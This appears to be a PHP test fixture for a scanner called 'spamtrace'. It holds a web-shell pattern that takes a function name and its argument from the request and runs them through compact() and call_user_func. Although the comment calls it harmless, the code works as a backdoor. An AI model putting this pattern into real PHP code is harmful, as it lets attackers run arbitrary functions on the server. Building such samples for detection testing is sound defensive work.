<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// a callable and its argument from the request, carried in an array made by compact()
$f = $_REQUEST['f']; $a = $_REQUEST['a'];
$job = compact('f', 'a');
call_user_func($job['f'], $job['a']);
